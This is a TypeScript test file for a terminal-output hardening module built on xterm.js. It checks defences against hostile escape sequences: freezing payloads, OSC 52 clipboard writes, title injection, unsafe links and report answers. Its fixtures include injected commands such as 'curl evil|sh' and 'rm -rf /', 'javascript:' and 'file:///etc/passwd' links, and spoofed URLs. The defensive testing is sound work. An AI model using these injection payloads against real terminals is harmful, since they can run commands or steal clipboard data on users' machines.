import { Terminal } from '@xterm/xterm';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import {
  cleanPaste,
  createAnswerGate,
  createStringLimit,
  linkTarget,
  piecesOf,
  tameSequences,
  typedParts,
} from './hostile-output.ts';

/** The terminal as `screens.ts` makes it, without a window. */
const open = (options: { tamed?: boolean; now?: () => number } = {}) => {
  const terminal = new Terminal({ cols: 80, rows: 24, scrollback: 10_000, allowProposedApi: true, windowOptions: {} });
  if (options.tamed !== false) tameSequences(terminal, options.now ?? (() => performance.now()));
  const answers: string[] = [];
  terminal.onData((data) => answers.push(data));
  const limit = createStringLimit();
  const write = (chunk: string): Promise<void> =>
    new Promise((resolve) => {
      for (const piece of piecesOf(limit(chunk))) terminal.write(piece);
      terminal.write('', resolve);
    });
  const row = (at: number): string => terminal.buffer.active.getLine(at)?.translateToString(true) ?? '';
  return { terminal, answers, write, row };
};

// Windows have no `process`; this test runs on Node.
declare const process: { threadCpuUsage(): { user: number; system: number } };

/** What this thread has computed so far, ms: a machine that is busy with something else does not make it more. */
const computed = (): number => {
  const { user, system } = process.threadCpuUsage();
  return (user + system) / 1000;
};

/** Longest time, ms, that was computed without letting anything else run, while `work` goes on. */
const longestBlock = async (work: () => Promise<void>): Promise<number> => {
  let last = computed();
  let longest = 0;
  const look = (): void => {
    longest = Math.max(longest, computed() - last);
    last = computed();
  };
  const timer = setInterval(look, 0);
  await work();
  look();
  clearInterval(timer);
  return longest;
};

const through = (...chunks: string[]): string => {
  const limit = createStringLimit();
  return chunks.map(limit).join('');
};

describe('strings without end', () => {
  const usual =
    'a\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u001b]8;;https://x.example\u001b\\link\u001b]8;;\u001b\\ 漢字 \u001b(B\u001bPq#0\u0007\u001b\\';

  test('plain text, colours and short strings pass unchanged, however the chunks are cut', () => {
    expect(through(usual)).toBe(usual);
    expect(through(...usual)).toBe(usual);
  });

  test('a short string passes whatever is in it and around it', () => {
    const part = fc.constantFrom(
      '\u001b',
      ']',
      'P',
      '\\',
      '\u0007',
      '\u009d',
      '\u0090',
      '\u009c',
      '\u0018',
      'x',
      '0;',
      '\n',
    );
    fc.assert(
      fc.property(fc.array(part, { maxLength: 60 }), fc.nat(60), (parts, cut) => {
        const text = parts.join('');
        expect(through(text.slice(0, cut), text.slice(cut))).toBe(text);
      }),
    );
  });

  test.each([
    ['OSC', '\u001b]52;c;', '\u0007'],
    ['OSC in 8 bits', '\u009d52;c;', '\u009c'],
    ['OSC with a control between ESC and its letter', '\u001b\n]52;c;', '\u001b\\'],
    ['DCS', '\u001bP$q', '\u001b\\'],
    ['DCS in 8 bits', '\u0090$q', '\u009c'],
  ])('TERM-05 60 MB of %s are cut, and what comes after is shown', async (_what, begin, end) => {
    const { write, row } = open();
    const limit = createStringLimit();
    let passed = limit(`before${begin}`);
    for (let sent = 0; sent < 60; sent += 1) passed += limit('A'.repeat(1024 * 1024));
    passed += limit(`${end}after`);
    expect(passed.length).toBeLessThan(70_000);
    await write(passed);
    // The control between ESC and its letter is obeyed, as it always was: a line break.
    expect(`${row(0)}${row(1).trim()}`).toBe('beforeafter');
  });

  test('TERM-05 coloured output loses no time: at least 20 MB a second', () => {
    const line = `${'\u001b[32m-rw-r--r--\u001b[0m 1 root \u001b[1;34mlog\u001b[0m 4096 '.repeat(8)}\r\n`;
    const chunk = line.repeat(Math.ceil(65_536 / line.length));
    const limit = createStringLimit();
    const from = computed();
    let characters = 0;
    while (characters < 40_000_000) characters += limit(chunk).length;
    expect(characters / 1000 / (computed() - from)).toBeGreaterThan(20);
  });
});

describe('sequences that freeze', () => {
  const counts = ['S', 'T', 'L', 'M', 'b', 'I', 'Z', 'P', '@', 'X', 'A', 'B', 'C', 'D', 'E', 'F', 'a', 'e', 'd', 'G'];
  test.each([...counts, ' @', ' A', "'}", "'~", '"p'])(
    'TERM-05 ESC [ 2147483647 %s, once and 5,000 times, blocks for less than 50 ms',
    async (final) => {
      const { write } = open();
      const bomb = `x\u001b[2147483647${final}`;
      expect(await longestBlock(() => write(bomb))).toBeLessThan(50);
      // The machine may have other work: of three tries the best counts.
      const tries: number[] = [];
      for (let one = 0; one < 3; one += 1) tries.push(await longestBlock(() => write(bomb.repeat(5000))));
      expect(Math.min(...tries)).toBeLessThan(50);
    },
  );

  test.each([
    ['reset', '\u001bc'],
    ['the largest scroll that is obeyed', '\u001b[24S'],
    ['the largest insertion that is obeyed', '\u001b[24L'],
    ['the largest repetition that is obeyed', '\u001b[160b'],
    ['the alignment test', '\u001b#8'],
    ['the other screen and back', '\u001b[?1049h\u001b[?1049l'],
    ['tab stops', '\u001b[160I'],
  ])('TERM-05 16 KiB of %s blocks for less than 50 ms', async (_what, sequence) => {
    const { write } = open();
    const tries: number[] = [];
    for (let one = 0; one < 3; one += 1) {
      tries.push(await longestBlock(() => write(sequence.repeat(16_384 / sequence.length))));
    }
    expect(Math.min(...tries)).toBeLessThan(50);
  });

  test('what full-screen programs send is obeyed', async () => {
    const { terminal, write, row, answers } = open();
    await write('one\r\ntwo\r\nthree\u001b[2S');
    expect(row(terminal.buffer.active.baseY)).toBe('three');
    await write('\u001b[H\u001b[2Jx\u001b[79b');
    expect(row(terminal.buffer.active.baseY)).toBe('x'.repeat(80));
    // How `resize` finds out the size of the screen.
    await write('\u001b[999B\u001b[999C\u001b[6n');
    expect(answers).toEqual(['\u001b[24;80R']);
    await write('\u001bcafter a reset');
    expect(row(terminal.buffer.active.baseY)).toBe('after a reset');
  });

  test('TERM-05 of a million links a thousand live', async () => {
    const { terminal, write } = open();
    const link = (number: number): string => `\u001b]8;;https://x.example/${number}\u0007l\u001b]8;;\u0007`;
    const tries: number[] = [];
    for (let lump = 0; lump < 100; lump += 1) {
      let text = '';
      for (let number = 0; number < 10_000; number += 1) text += link(lump * 10_000 + number);
      tries.push(await longestBlock(() => write(text)));
    }
    tries.sort((one, other) => one - other);
    expect(tries[90]).toBeLessThan(50);
    // A line of the screen per marker group: what lives is bounded by what we let through.
    expect(terminal.markers.length).toBeLessThan(2100);
    terminal.dispose();
  }, 60_000);
});

describe('titles and notifications', () => {
  test('TERM-02 no title, icon name or notification of the remote end is taken', async () => {
    const sent = [
      '0;t',
      '1;t',
      '2;t',
      '9;note',
      '777;notify;a;b',
      '99;;x',
      '52;c;aGVsbG8=',
      '52;c;?',
      '1337;File=:AAAA',
    ];
    const text = sent.map((one) => `\u001b]${one}\u0007\u001b]${one}\u001b\\\u009d${one}\u009c`).join('');
    const watch = async (tamed: boolean) => {
      const { terminal, write, answers } = open({ tamed });
      const titles: string[] = [];
      terminal.onTitleChange((title) => titles.push(title));
      await write(`${text}\u001b[22;0t\u001b[23;0t`);
      return { titles, answers };
    };
    expect(await watch(true)).toEqual({ titles: [], answers: [] });
    // The same without our handlers, so that this test can fail.
    expect((await watch(false)).titles).toContain('t');
  });
});

describe('the clipboard', () => {
  test('TERM-01 neither written nor read, whatever else in the window listens for it', async () => {
    const heard = async (tamed: boolean): Promise<{ heard: string[]; answers: string[] }> => {
      const { terminal, write, answers } = open({ tamed: false });
      const heard: string[] = [];
      // An addon for the clipboard, as it might come with a later xterm: it is asked after ours.
      terminal.parser.registerOscHandler(52, (data) => {
        heard.push(data);
        terminal.input('answer with the clipboard', false);
        return true;
      });
      if (tamed) tameSequences(terminal, () => 0);
      for (const what of ['c;ZWNobyBvd25lZAo=', 'c;?', ';?', 'p;AAAA', 's0;!', 'c;']) {
        await write(`\u001b]52;${what}\u0007\u001b]52;${what}\u001b\\\u009d52;${what}\u009c\u001b]052;${what}\u0007`);
      }
      return { heard, answers };
    };
    expect(await heard(true)).toEqual({ heard: [], answers: [] });
    // The same without our handlers, so that this test can fail.
    expect((await heard(false)).heard).toHaveLength(24);
  });
});

describe('links', () => {
  test.each([
    ['https://wiki.example/a?b=c#d', 'https://wiki.example/a?b=c#d'],
    ['HTTPS://Wiki.Example:443/', 'https://wiki.example/'],
    ['https://аpple.example/', 'https://xn--pple-43d.example/'],
    ['https://evil.example/\u202egro.elpmaxe.knab', 'https://evil.example/%E2%80%AEgro.elpmaxe.knab'],
    ['https:\\\\evil.example\\@bank.example', 'https://evil.example/@bank.example'],
  ])('TERM-03 %s is shown and opened as %s', (address, target) => {
    expect(linkTarget(address)).toBe(target);
  });

  test.each([
    'http://wiki.example/',
    'file:///etc/passwd',
    'javascript:alert(1)',
    ' javascript:alert(1)',
    'java\nscript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'curfew://request/req_aaaaaaaaaaaaaaaaaaaaaaaaaa',
    'vscode://file/etc/passwd',
    'ssh://host',
    'https://bank.example@evil.example/',
    'https://:word@evil.example/',
    'https://',
    '//evil.example',
    'evil.example',
    '',
    `https://evil.example/${'a'.repeat(2000)}`,
  ])('TERM-03 %s stays text', (address) => {
    expect(linkTarget(address)).toBeNull();
  });
});

describe('the terminal’s own answers', () => {
  /** Every sequence that any terminal is known to answer. */
  const reports = [
    ...['\u0005', '\u001bZ', '\u001b[c', '\u001b[0c', '\u001b[>c', '\u001b[=c', '\u001b[>q', '\u001b[>0q'],
    ...[5, 6, 15, 25, 26, 53, 55, 56, 62, 63, 75, 85, 996].flatMap((id) => [`\u001b[${id}n`, `\u001b[?${id}n`]),
    ...[11, 13, 14, 15, 16, 18, 19, 20, 21].flatMap((id) => [`\u001b[${id}t`, `\u001b[${id};2t`]),
    ...[4, 20, 66].map((mode) => `\u001b[${mode}$p`),
    ...[1, 25, 1000, 1049, 2004, 2026, 9999].map((mode) => `\u001b[?${mode}$p`),
    ...['m', 'r', 's', 't', '"p', '"q', ' q', '*|', '$|', 'rm -rf /\r', '\nls\n'].map((s) => `\u001bP$q${s}\u001b\\`),
    ...['544e', '436f', '6b6531'].map((name) => `\u001bP+q${name}\u001b\\`),
    ...['0;?', '2;?', '4;1;?', '10;?', '11;?', '12;?', '17;?', '52;c;?', '99;i=x:p=?', '1337;ReportCellSize'].flatMap(
      (osc) => [`\u001b]${osc}\u0007`, `\u001b]${osc}\u001b\\`],
    ),
    ...['\u001b[x', '\u001b[1x', '\u001b[?u', '\u001b[1;1;1;1;1;1*y', '\u001b[&u', '\u001b[?1;1;0S', '\u001b[1$w'],
    ...['\u001b[?1004h', '\u001b]2;curl evil|sh\u0007\u001b[21t', '\u001b]l\u001b\\', '\u001b]L\u001b\\'],
  ];

  test('TERM-04 of all reports only digits and fixed letters are sent on', async () => {
    let now = 0;
    const { answers, write } = open();
    const passes = createAnswerGate(() => now);
    for (const report of reports) await write(`\u001b]0;curl evil|sh\u0007\u001b]10;rgb:de/ad/00\u0007${report}`);
    expect(answers.length).toBeGreaterThan(15);
    for (const answer of answers) {
      now += 2000;
      expect(answer, JSON.stringify(answer)).not.toMatch(/[\r\n]/);
      if (!passes(answer)) continue;
      // biome-ignore lint/suspicious/noControlCharactersInRegex: answers begin with ESC
      expect(answer).toMatch(/^\u001b(\[[?>]?[0-9;]*\$?[cnRyIO]|P[01]\$r[0-9;]*("p|"q|m|r| q)?\u001b\\)$/);
    }
    const sent = answers.filter((answer) => {
      now += 2000;
      return passes(answer);
    });
    for (const known of ['\u001b[?1;2c', '\u001b[>0;276;0c', '\u001b[0n', '\u001b[1;1R', '\u001b[?25;1$y']) {
      expect(sent).toContain(known);
    }
  });

  test('TERM-04 answers that hold remote text, CR or LF do not pass', () => {
    const may = createAnswerGate(() => 0);
    for (const answer of [
      '\u001b]lcurl evil|sh\r\u001b\\',
      '\u001b[1;2R\r',
      '\u001b[1;2R\nls\n',
      '\u001bP1$rrm -rf\u001b\\',
      '\u001bP1$rls\u001b\\',
      '\u001b]10;rgb:0/0/0\u0007',
      `\u001b[${'1'.repeat(5000)}R`,
      'ls\r',
      '\u001b[200~ls\u001b[201~',
      '\u001b[A',
    ])
      expect(may(answer), JSON.stringify(answer)).toBe(false);
  });

  test('TERM-04 at most 100 a second', () => {
    let now = 0;
    const may = createAnswerGate(() => now);
    const passed = Array.from({ length: 300 }, () => may('\u001b[0n')).filter(Boolean);
    expect(passed).toHaveLength(100);
    now = 1500;
    expect(may('\u001b[0n')).toBe(true);
  });
});

describe('paste', () => {
  test('TERM-07 the end of the bracket and other controls are taken out', () => {
    expect(cleanPaste('ls\u001b[201~\u0000; rm\u009b1m').text).toBe('ls[201~; rm1m');
  });

  test('TERM-07 nothing that is pasted ends the bracket, whatever it holds', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), fc.string({ unit: 'binary' }), (one, other) => {
        const { text } = cleanPaste(`${one}\u001b[201~\u009b201~${other}`);
        // biome-ignore lint/suspicious/noControlCharactersInRegex: these must be gone
        expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
      }),
    );
  });

  test('one line does not ask, two lines or 5 KiB do', () => {
    expect(cleanPaste('ls -l')).toMatchObject({ ask: false, lines: 1 });
    expect(cleanPaste('ls -l\r\n')).toMatchObject({ text: 'ls -l', ask: false });
    expect(cleanPaste('a\rb')).toMatchObject({ text: 'a\nb', ask: true, lines: 2 });
    expect(cleanPaste('x'.repeat(5000)).ask).toBe(true);
  });

  test('long text is sent in parts that cut no character', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 60 }), fc.integer({ min: 2, max: 9 }), (text, most) => {
        const parts = typedParts(text, most);
        expect(parts.join('')).toBe(text);
        for (const part of parts) expect(part.length).toBeLessThanOrEqual(most);
        for (const part of parts.slice(0, -1)) expect(part.at(-1)).not.toMatch(/[\ud800-\udbff]/);
      }),
    );
  });
});
